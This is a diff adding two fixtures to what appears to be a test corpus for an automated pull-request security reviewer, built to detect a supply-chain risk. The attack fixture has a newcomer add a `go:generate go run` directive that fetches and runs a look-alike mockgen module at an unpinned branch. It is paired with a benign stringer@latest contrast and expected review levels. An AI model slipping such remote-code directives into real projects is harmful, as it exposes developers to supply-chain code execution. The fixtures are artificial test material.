@@ -3332,6 +3332,46 @@ export const ATTACK_CASES: CorpusEntry[] = [
     expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:build-code-behavior', 'finding:obfuscated-code'] },
   },
   {
+    id: 'attack-go-generate-module-at-branch',
+    description:
+      'The malicious Go modules of 2025 (look-alike module paths whose later commits carried a loader) reach a project through `go generate`: a first-time contributor\'s "generate mocks" PR adds `//go:generate go run github.com/mockgen-dev/mockgen@master`, so every developer who regenerates runs whatever that branch holds that day.',
+    fixture: () =>
+      attackPr({
+        repo: 'kvstore',
+        number: 11012,
+        title: 'Generate mocks for the store interface',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'internal/store/store.go',
+            base: lines('package store', '', '// Store keeps values by key.', 'type Store interface {', '\tGet(key string) ([]byte, error)', '\tPut(key string, value []byte) error', '}'),
+            head: lines('package store', '', '//go:generate go run github.com/mockgen-dev/mockgen@master -source=store.go -destination=mocks/store.go -package=mocks', '', '// Store keeps values by key.', 'type Store interface {', '\tGet(key string) ([]byte, error)', '\tPut(key string, value []byte) error', '}'),
+          },
+        ],
+      }),
+    expect: { level: ['medium', 'high'], action: ['comment', 'needs_discussion'], findings: ['go-run-unpinned'] },
+  },
+  {
+    id: 'benign-go-generate-stringer-latest',
+    description:
+      'The everyday form: a maintainer adds `//go:generate go run golang.org/x/tools/cmd/stringer@latest -type=Kind` (the Go team\'s tool at its newest release, as many projects write it) and a local generator `go run ./internal/gen`: a low note to pin it, not a reason to hold the PR.',
+    fixture: () =>
+      attackPr({
+        repo: 'kvstore',
+        number: 11013,
+        title: 'Generate String() for Kind',
+        author: 'member',
+        files: [
+          {
+            path: 'internal/store/kind.go',
+            base: lines('package store', '', '// Kind is the type of a stored value.', 'type Kind int', '', 'const (', '\tKindBytes Kind = iota', '\tKindCounter', ')'),
+            head: lines('package store', '', '//go:generate go run golang.org/x/tools/cmd/stringer@latest -type=Kind', '//go:generate go run ./internal/gen -out kind_table.go', '', '// Kind is the type of a stored value.', 'type Kind int', '', 'const (', '\tKindBytes Kind = iota', '\tKindCounter', ')'),
+          },
+        ],
+      }),
+    expect: { level: 'low', action: ['approve', 'comment'], findings: ['go-run-unpinned'] },
+  },
+  {
     id: 'attack-runner-provisioning-user-data',
     description: 'The benign look-alike: an infrastructure repository\'s maintainer adds the cloud-init script its autoscaled runners boot with, which asks for a registration token and configures an ephemeral runner (medium: a provisioning script does this in ordinary work).',
     fixture: () =>
